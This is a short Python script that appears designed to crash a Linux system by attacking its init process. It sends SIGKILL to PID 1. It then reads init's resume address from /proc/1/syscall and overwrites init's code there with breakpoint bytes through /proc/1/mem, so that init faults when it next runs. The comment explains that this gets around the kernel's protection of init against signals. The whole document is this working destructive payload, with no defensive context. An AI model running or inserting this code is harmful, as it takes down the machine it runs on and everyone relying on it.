import os
import signal

# Not by a signal, from which the kernel protects it: where it will go on when a child has died, there
# are only faults.
os.kill(1, signal.SIGKILL)
with open("/proc/1/syscall") as call:
    goes_on_at = int(call.read().split()[-1], 16)
with open("/proc/1/mem", "r+b", buffering=0) as memory:
    memory.seek(goes_on_at)
    memory.write(b"\xcc" * 64)
os._exit(0)
